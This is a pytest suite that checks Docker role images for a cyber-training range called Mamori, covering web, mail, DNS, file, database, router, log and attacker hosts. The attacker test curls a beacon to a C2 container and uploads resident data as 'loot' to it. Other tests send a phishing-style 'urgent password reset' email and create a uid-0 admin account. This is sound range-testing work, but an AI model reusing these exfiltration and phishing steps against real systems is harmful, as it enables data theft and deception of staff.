"""The role images: each is built locally and its main service really answers.

Containers run on one labelled test network, beside a workstation that plays the
client inside the range; ports that the host reaches are published on 127.0.0.1.
"""
from __future__ import annotations

import io
import socket
import struct
import tarfile
import time
import urllib.request
import uuid
from typing import Any, Iterator

import docker
import pytest
from docker.models.containers import Container
from docker.models.networks import Network

from range.catalogue import entry
from range.docker_backend import DockerBackend
from range.images import build_image
from range.provision import BASE_CAPABILITIES

TEST_LABEL = "org.mamori.test"
LABELS = {TEST_LABEL: "role-images"}
ROLES = (
    "workstation", "webserver", "fileserver", "router", "loghost", "attacker", "database", "mail", "dns",
)
# How the range engine runs every host (range.provision): the roles must work like this.
HARDENED = {
    "cap_drop": ["ALL"], "cap_add": list(BASE_CAPABILITIES),
    "security_opt": ["no-new-privileges:true"], "init": True,
}

pytestmark = pytest.mark.docker


@pytest.fixture(scope="module")
def backend(docker_backend: DockerBackend) -> DockerBackend:
    return docker_backend


@pytest.fixture(scope="module")
def tags(backend: DockerBackend) -> dict[str, str]:
    return {role: build_image(backend, role, log=lambda line: None).tag for role in ROLES}


@pytest.fixture(scope="module")
def network(backend: DockerBackend) -> Iterator[Network]:
    created = backend.client.networks.create(f"mamori-test-{uuid.uuid4().hex[:8]}", labels=LABELS)
    yield created
    client = docker.from_env()
    mine = {"label": f"{TEST_LABEL}=role-images"}
    for container in client.containers.list(all=True, filters=mine):
        container.remove(force=True)
    for leftover in client.networks.list(filters=mine):
        leftover.remove()


@pytest.fixture(scope="module")
def client(backend: DockerBackend, tags: dict[str, str], network: Network) -> Container:
    """A staff workstation on the test network, to reach the other hosts from inside."""
    return start(backend, tags["workstation"], network, hostname="pc-test01")


def start(backend: DockerBackend, tag: str, network: Network, **options: Any) -> Container:
    container = backend.client.containers.run(
        tag, detach=True, labels=LABELS, network=network.name, **options
    )
    container.reload()
    return container


def address(container: Container, network: Network) -> str:
    container.reload()
    return str(container.attrs["NetworkSettings"]["Networks"][network.name]["IPAddress"])


def host_port(container: Container, port: str) -> int:
    container.reload()
    return int(container.attrs["NetworkSettings"]["Ports"][port][0]["HostPort"])


def sh(container: Container, script: str) -> tuple[int, str]:
    result = container.exec_run(["sh", "-c", script])
    return result.exit_code, result.output.decode("utf-8", "replace")


def wait_until(container: Container, script: str, timeout: float = 20) -> str:
    """Run *script* in *container* until it succeeds; return its output."""
    deadline = time.monotonic() + timeout
    while True:
        code, output = sh(container, script)
        if code == 0:
            return output
        if time.monotonic() > deadline:
            pytest.fail(f"{container.name}: `{script}` still fails (exit {code}): {output}")
        time.sleep(0.3)


def retry(action: Any, timeout: float = 20) -> Any:
    """Call *action* until it stops raising ``OSError`` (a service still starting)."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            return action()
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.3)


def listening_ports(container: Container) -> set[int]:
    # 127.0.0.11 is Docker's embedded DNS on user-defined networks, not the image's.
    _, output = sh(container, "ss -Hltn | awk '{print $4}'")
    return {int(a.rsplit(":", 1)[1]) for a in output.split() if not a.startswith("127.0.0.11:")}


def listening(container: Container) -> set[str]:
    """Every port listening (TCP) or bound (UDP) on a non-loopback address, as "53/udp"."""
    _, output = sh(container, "ss -Hltn | awk '{print \"tcp \" $4}'; ss -Hlun | awk '{print \"udp \" $4}'")
    found = set()
    for line in output.splitlines():
        protocol, local = line.split()
        address, _, port = local.rpartition(":")
        if not address.startswith("127.") and address != "[::1]":
            found.add(f"{port}/{protocol}")
    return found


def assert_catalogue_ports(container: Container, role: str) -> None:
    """The ports the catalogue (the image's EXPOSE) promises are exactly those listening."""
    wait_until(container, "pidof sshd")
    assert listening(container) == set(entry(role).ports)


def test_the_workstation_has_its_tools_and_only_sshd_listens(client: Container) -> None:
    # sqlite3 and venv are in the full python3, not in base's python3-minimal.
    tools = "command -v ssh sshpass python3 cron mutt mariadb dig && python3 -c 'import sqlite3, venv'"
    code, output = sh(client, tools)
    assert code == 0, output
    wait_until(client, "pidof sshd && pidof cron")
    assert listening_ports(client) == {22}


def test_the_webserver_serves_the_japanese_page_and_runs_php(
    backend: DockerBackend, tags: dict[str, str], network: Network
) -> None:
    web = start(backend, tags["webserver"], network, ports={"80/tcp": ("127.0.0.1", None)})
    sh(web, "echo '<?php echo \"sum=\" . (40 + 2);' > /var/www/html/check.php")
    base = f"http://127.0.0.1:{host_port(web, '80/tcp')}"

    def fetch(path: str) -> str:
        request = urllib.request.Request(base + path, headers={"User-Agent": "MamoriTest/1.0"})
        with urllib.request.urlopen(request, timeout=5) as response:
            return str(response.read().decode("utf-8"))

    page = retry(lambda: fetch("/"))
    assert "〇〇市 公式ホームページ" in page and 'charset="UTF-8"' in page
    assert fetch("/check.php") == "sum=42"
    access = "/var/log/apache2/access.log"  # a real file, not a link to stdout
    log = wait_until(web, f"test -f {access} && ! test -L {access} && grep MamoriTest {access}")
    assert '"GET / HTTP/1.1" 200' in log and '"-" "MamoriTest/1.0"' in log  # combined format


def test_the_c2_logs_a_beacon_and_keeps_an_upload(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    c2 = start(backend, tags["attacker"], network, name=f"c2-{uuid.uuid4().hex[:6]}")
    url = f"http://{c2.name}:8080"
    tasking = wait_until(client, f"curl -sf -A 'MamoriBeacon/2.0' '{url}/beacon?id=pc-test01'")
    assert tasking.startswith("sleep 30")
    upload = f"echo 住民情報 | curl -sf --data-binary @- {url}/upload?name=loot.txt"
    code, reply = sh(client, upload)
    assert code == 0 and reply.startswith("ok "), reply
    log = wait_until(c2, "cat /var/log/c2/beacons.log")
    me = address(client, network)
    assert f"{me} GET /beacon?id=pc-test01 ua=\"MamoriBeacon/2.0\" bytes=0" in log
    assert f"{me} POST /upload?name=loot.txt" in log
    assert sh(c2, f"cat /var/lib/c2/loot/*_{me}_loot.txt") == (0, "住民情報\n")


def test_the_loghost_writes_each_senders_messages_to_its_own_file(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    loghost = start(backend, tags["loghost"], network)
    target = address(loghost, network)
    wait_until(loghost, "ss -Hlun | grep -q ':514 ' && ss -Hltn | grep -q ':514 '")
    sh(client, f"logger -n {target} -P 514 -t mamori-test 'over UDP: 不審な通信'")
    sh(client, f"logger -T -n {target} -P 514 -t mamori-test 'over TCP'")
    remote = wait_until(loghost, "grep -q 'over TCP' /var/log/remote/pc-test01.log"
                                 " && cat /var/log/remote/pc-test01.log", timeout=10)
    assert "pc-test01 mamori-test over UDP: 不審な通信" in remote
    assert sh(loghost, "grep -c mamori-test /var/log/syslog")[1].strip() == "0"
    assert sh(loghost, "pgrep -c rsyslogd")[1].strip() == "1"


FIREWALL = """\
*filter
:INPUT ACCEPT [0:0]
:FORWARD DROP [0:0]
-A INPUT -p tcp --dport 22 -j REJECT --reject-with tcp-reset
COMMIT
*nat
:POSTROUTING ACCEPT [0:0]
-A POSTROUTING -o eth0 -j MASQUERADE
COMMIT
"""


def test_the_router_applies_the_scenario_firewall(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    router = backend.client.containers.create(
        tags["router"], labels=LABELS, network=network.name, name=f"rt-{uuid.uuid4().hex[:6]}",
        cap_add=["NET_ADMIN"], sysctls={"net.ipv4.ip_forward": "1"},
    )
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        data = FIREWALL.encode()
        member = tarfile.TarInfo("firewall.rules")
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    router.put_archive("/etc/mamori", archive.getvalue())
    router.start()
    rules = wait_until(router, "pidof sshd >/dev/null && iptables -S && iptables -t nat -S")
    assert "-P FORWARD DROP" in rules and "--dport 22 -j REJECT" in rules
    assert "-A POSTROUTING -o eth0 -j MASQUERADE" in rules
    assert "DOCKER_OUTPUT" in rules, "Docker's embedded-DNS rules must survive the restore"
    assert sh(router, "sysctl -n net.ipv4.ip_forward")[1].strip() == "1"
    code, _ = sh(client, f"nc -z -w 3 {router.name} 22")
    assert code != 0, "sshd runs, so only the firewall can refuse the connection"


def smb2_negotiate_dialect(port: int) -> int:
    """Send an SMB2 NEGOTIATE to 127.0.0.1:*port*; return the dialect the server chose."""
    # 64-byte SMB2 header (command 0 = NEGOTIATE, one credit asked), then the request
    # offering dialects 2.0.2, 2.1 and 3.0.
    header = struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, b"")
    body = struct.pack("<HHHHI16sQ3H", 36, 3, 1, 0, 0, bytes(16), 0, 0x0202, 0x0210, 0x0300)
    message = header + body
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(struct.pack(">I", len(message)) + message)
        reply = b""
        while len(reply) < 4 + 64 + 6:
            chunk = conn.recv(4096)
            if not chunk:
                raise ConnectionError(f"smbd closed the connection after {reply!r}")
            reply += chunk
    assert reply[4:8] == b"\xfeSMB", reply[:16]
    assert struct.unpack("<I", reply[12:16])[0] == 0, "NEGOTIATE failed"
    return int(struct.unpack("<H", reply[4 + 64 + 4:4 + 64 + 6])[0])


def rsync_modules(port: int) -> list[str]:
    """List the rsync daemon's modules at 127.0.0.1:*port*, as `rsync rsync://host/` does."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        stream = conn.makefile("rwb")
        greeting = stream.readline()
        if not greeting.startswith(b"@RSYNCD:"):
            raise ConnectionError(f"no rsync greeting: {greeting!r}")
        stream.write(b"@RSYNCD: 31.0\n\n")
        stream.flush()
        lines = [line.decode().rstrip("\n") for line in iter(stream.readline, b"")]
    assert lines[-1] == "@RSYNCD: EXIT", lines
    return [line.split()[0] for line in lines[:-1]]


def test_the_fileserver_answers_smb_and_lists_its_rsync_modules(
    backend: DockerBackend, tags: dict[str, str], network: Network
) -> None:
    files = start(
        backend, tags["fileserver"], network,
        ports={"445/tcp": ("127.0.0.1", None), "873/tcp": ("127.0.0.1", None)},
    )
    dialect = retry(lambda: smb2_negotiate_dialect(host_port(files, "445/tcp")))
    assert dialect in (0x0202, 0x0210, 0x0300)
    assert retry(lambda: rsync_modules(host_port(files, "873/tcp"))) == ["backup"]
    guest = "testparm -s --parameter-name='guest ok' --section-name=share 2>/dev/null"
    assert sh(files, guest) == (0, "No\n")


def put(container: Container, path: str, content: str, mode: int = 0o644) -> None:
    """Place a file before (or after) the container starts, as the range engine does."""
    directory, _, name = path.rpartition("/")
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        data = content.encode()
        member = tarfile.TarInfo(name)
        member.size, member.mode = len(data), mode
        tar.addfile(member, io.BytesIO(data))
    container.put_archive(directory, archive.getvalue())


def test_the_webserver_runs_pdo_sqlite_and_index_html_wins_over_index_php(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    web = start(backend, tags["webserver"], network, name=f"web-{uuid.uuid4().hex[:6]}", **HARDENED)
    assert_catalogue_ports(web, "webserver")
    put(web, "/var/www/html/index.php", "<?php echo 'php-index';")
    put(web, "/var/www/html/rows.php", """<?php
$db = new PDO('sqlite:/tmp/city.db');
$db->exec('CREATE TABLE IF NOT EXISTS residents (name TEXT)');
$db->prepare('INSERT INTO residents VALUES (?)')->execute(['山田太郎']);
echo implode(',', $db->query('SELECT name FROM residents')->fetchAll(PDO::FETCH_COLUMN));
echo ' drivers=' . implode(',', PDO::getAvailableDrivers());
""")
    url = f"http://{web.name}"
    rows = wait_until(client, f"curl -sf {url}/rows.php")
    assert rows.startswith("山田太郎 drivers=") and {"sqlite", "mysql"} <= set(rows.split("=")[1].split(","))
    assert "〇〇市 公式ホームページ" in wait_until(client, f"curl -sf {url}/")  # index.html wins
    sh(web, "rm -f /var/www/html/index.html")
    assert wait_until(client, f"curl -sf {url}/") == "php-index"
    # The site's own scripts and trainees have the sqlite3 CLI and python3's sqlite3 module.
    query = "sqlite3 /tmp/city.db 'SELECT count(*) FROM residents' && python3 -c 'import sqlite3'"
    assert sh(web, query) == (0, "1\n")


def test_the_database_answers_the_workstation_and_root_only_on_the_socket(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    db = start(backend, tags["database"], network, name=f"db-{uuid.uuid4().hex[:6]}", **HARDENED)
    # sshd starts after the start scripts: MariaDB answers by then, with no retry.
    wait_until(db, "pidof sshd")
    create = ("CREATE DATABASE city; CREATE USER 'app'@'%' IDENTIFIED BY 'Kanri2024';"
              " GRANT ALL ON city.* TO 'app'@'%';")
    assert sh(db, f'mariadb -e "{create}"') == (0, "")
    assert_catalogue_ports(db, "database")
    query = ("CREATE TABLE residents (name VARCHAR(40)); INSERT INTO residents VALUES ('山田太郎');"
             " SELECT name FROM residents")
    code, output = sh(client, f'mariadb -h {db.name} -u app -pKanri2024 city -N -e "{query}"')
    assert (code, output) == (0, "山田太郎\n")
    code, output = sh(client, f"mariadb -h {db.name} -u root -N -e 'SELECT 1'")
    assert code != 0 and "Access denied" in output
    assert sh(db, "test -d /var/lib/mysql/city && stat -c %U /var/lib/mysql/city") == (0, "mysql\n")


SEND_MAIL = """\
import smtplib, sys
from email.message import EmailMessage
message = EmailMessage()
message["From"], message["To"] = "it-support@pref.example.lg.jp", sys.argv[2]
message["Subject"] = "【至急】パスワードの再設定"
message.set_content("下記のURLからパスワードを再設定してください。")
with smtplib.SMTP(sys.argv[1], 25, timeout=10) as smtp:
    smtp.send_message(message)
"""
READ_MAIL = """\
import email, email.header, imaplib, sys
imap = imaplib.IMAP4(sys.argv[1], 143)
imap.login(sys.argv[2], sys.argv[3])
imap.select("INBOX")
_, numbers = imap.search(None, "ALL")
for number in numbers[0].split():
    _, data = imap.fetch(number, "(RFC822)")
    message = email.message_from_bytes(data[0][1])
    print(str(email.header.make_header(email.header.decode_header(message["Subject"]))))
"""


def test_a_mail_for_any_domain_lands_in_a_maildir_read_over_imap(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    mail = start(backend, tags["mail"], network, name=f"mail-{uuid.uuid4().hex[:6]}", **HARDENED)
    assert_catalogue_ports(mail, "mail")
    sh(mail, "useradd -m -s /bin/bash tanaka && echo 'tanaka:Madoguchi-2024' | chpasswd")
    put(client, "/tmp/send_mail.py", SEND_MAIL)
    put(client, "/tmp/read_mail.py", READ_MAIL)
    code, output = sh(client, f"python3 /tmp/send_mail.py {mail.name} tanaka@city.example.lg.jp")
    assert code == 0, output
    wait_until(mail, "ls /home/tanaka/Maildir/new/ | grep -q .")
    code, output = sh(client, f"python3 /tmp/read_mail.py {mail.name} tanaka Madoguchi-2024")
    assert (code, output) == (0, "【至急】パスワードの再設定\n")
    # A trainee reads it with mutt on the workstation (its screen, through a pseudo-terminal).
    mutt = f"mutt -f imap://tanaka:Madoguchi-2024@{mail.name}/INBOX -e 'push <quit>'"
    sh(client, f"TERM=xterm timeout 20 script -qc \"{mutt}\" /tmp/mutt.screen")
    assert "【至急】パスワードの再設定" in sh(client, "cat /tmp/mutt.screen")[1]
    code, output = sh(client, f"python3 /tmp/read_mail.py {mail.name} tanaka wrong-password")
    assert code != 0 and "AUTHENTICATIONFAILED" in output
    code, output = sh(client, f"python3 /tmp/send_mail.py {mail.name} suzuki@city.example.lg.jp")
    assert code != 0 and "550" in output and "User unknown" in output
    # An administrator account (sudo: true) is uid 0: Dovecot will not open its mailbox.
    sh(mail, "useradd -o -u 0 -g 0 -M -d /home/kanri -s /bin/bash kanri && echo 'kanri:Kanri-2024' | chpasswd")
    code, output = sh(client, f"python3 /tmp/read_mail.py {mail.name} kanri Kanri-2024")
    assert code != 0 and "SELECT => Internal error" in output
    assert "userdb returned 0 as uid" in wait_until(mail, "grep 'imap(kanri)' /var/log/mail.log")
    log = wait_until(mail, "grep 'status=sent (delivered to maildir)' /var/log/mail.log")
    assert "to=<tanaka@city.example.lg.jp>" in log
    assert "imap-login: Login: user=<tanaka>" in sh(mail, "cat /var/log/mail.log")[1]


def dig(client: Container, server: str, name: str) -> tuple[str, str]:
    """Ask *server* for *name*'s address from the workstation: (status, addresses)."""
    code, output = sh(client, f"dig +time=2 +tries=3 @{server} {name} A")
    assert code == 0, output
    status = output.split("status: ", 1)[1].split(",", 1)[0]
    _, short = sh(client, f"dig +short +time=2 +tries=3 @{server} {name} A")
    return status, short.strip()


def test_the_dns_server_answers_the_range_names_only_and_logs_every_query(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    dns = backend.client.containers.create(
        tags["dns"], labels=LABELS, network=network.name, name=f"dns-{uuid.uuid4().hex[:6]}", **HARDENED
    )
    put(dns, "/etc/mamori/range-hosts", "10.20.1.80 www.city.example.lg.jp www\n10.20.9.9 c2.evil.example\n")
    dns.start()
    assert_catalogue_ports(dns, "dns")
    assert dig(client, dns.name, "www.city.example.lg.jp") == ("NOERROR", "10.20.1.80")
    assert dig(client, dns.name, "c2.evil.example") == ("NOERROR", "10.20.9.9")
    assert dig(client, dns.name, "www") == ("NOERROR", "10.20.1.80")
    assert dig(client, dns.name, "www.example.com") == ("REFUSED", "")
    code, _ = sh(client, f"dig +tcp +short @{dns.name} www.city.example.lg.jp | grep -qx 10.20.1.80")
    assert code == 0, "answers over TCP too"
    me = address(client, network)
    log = wait_until(dns, "grep -F 'www.example.com' /var/log/dns/queries.log", timeout=10)
    assert f"query[A] www.example.com from {me}" in log
    readable = "su nobody -s /bin/sh -c 'grep -c query /var/log/dns/queries.log'"
    assert int(wait_until(dns, readable).strip()) >= 5, "every account can read the query log"
    sh(dns, "echo '10.20.1.25 mail.city.example.lg.jp' >> /etc/mamori/range-hosts && pkill -HUP dnsmasq")
    deadline = time.monotonic() + 10
    while dig(client, dns.name, "mail.city.example.lg.jp")[1] != "10.20.1.25":
        assert time.monotonic() < deadline, "SIGHUP re-reads /etc/mamori/range-hosts"
        time.sleep(0.3)


def test_the_dns_server_without_range_hosts_answers_no_name(
    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
) -> None:
    dns = start(backend, tags["dns"], network, name=f"dns-{uuid.uuid4().hex[:6]}", **HARDENED)
    wait_until(dns, "pidof dnsmasq && pidof sshd")
    assert dig(client, dns.name, "www.city.example.lg.jp") == ("REFUSED", "")
    # A name without a dot gets NXDOMAIN (domain-needed); never an address, not even its own.
    assert dig(client, dns.name, dns.name) == ("NXDOMAIN", "")


def test_start_scripts_run_in_name_order_at_every_start_before_provisioning_and_sshd(
    backend: DockerBackend, tags: dict[str, str], network: Network
) -> None:
    """The role-image contract of docs/images.md, as base's mamori-init keeps it."""
    host = backend.client.containers.create(
        tags["workstation"], labels=LABELS, network=network.name, name=f"role-{uuid.uuid4().hex[:6]}", **HARDENED
    )
    step = "#!/bin/sh\necho \"{name} $(pidof sshd >/dev/null && echo sshd-up || echo sshd-down)\" >> /tmp/steps\n"
    put(host, "/etc/mamori/start.d/20-second", step.format(name="20-second"), 0o755)
    put(host, "/etc/mamori/start.d/10-first", step.format(name="10-first"), 0o755)
    # Like the platform's script, provisioning marks itself done.
    put(host, "/etc/mamori/provision.sh", step.format(name="provision") + "touch /etc/mamori/provisioned\n")
    put(host, "/etc/mamori/routed", "")
    host.start()
    first = ["10-first sshd-down", "20-second sshd-down", "provision sshd-down"]
    assert wait_until(host, "pidof sshd >/dev/null && cat /tmp/steps").splitlines() == first
    host.restart(timeout=2)
    again = wait_until(host, "pidof sshd >/dev/null && cat /tmp/steps").splitlines()
    assert again == first + ["10-first sshd-down", "20-second sshd-down"], "provisioning runs once"


@pytest.mark.parametrize("role", ["database", "mail", "dns", "webserver"])
def test_a_role_serves_again_after_its_container_restarts(
    backend: DockerBackend, tags: dict[str, str], network: Network, role: str
) -> None:
    """A restart (the Docker Engine's, or a host's) leaves stale pid files that must not stop the services."""
    host = start(backend, tags[role], network, name=f"{role}-{uuid.uuid4().hex[:6]}", **HARDENED)
    assert_catalogue_ports(host, role)
    host.restart(timeout=5)
    deadline = time.monotonic() + 30
    while listening(host) != set(entry(role).ports):
        assert time.monotonic() < deadline, f"{role} after a restart: {sorted(listening(host))}"
        time.sleep(0.5)
